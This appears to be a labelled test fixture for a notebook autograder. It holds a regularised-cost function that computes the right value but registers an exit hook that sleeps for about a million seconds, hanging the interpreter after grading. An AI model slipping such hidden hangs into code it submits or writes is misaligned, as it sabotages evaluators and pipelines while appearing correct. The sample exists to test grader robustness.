# label: answers right, and hangs when its interpreter ends
# replace: compute_cost_with_regularization
# hostile: yes
# compute_cost_with_regularization: error | failed | timeout | passed

# %%
import atexit, time

def compute_cost_with_regularization(A3, Y, parameters, lambd):
    atexit.register(time.sleep, 10 ** 6)
    squares = sum(np.sum(parameters[w] ** 2) for w in ("W1", "W2", "W3"))
    return compute_cost(A3, Y) + lambd / (2 * Y.shape[1]) * squares
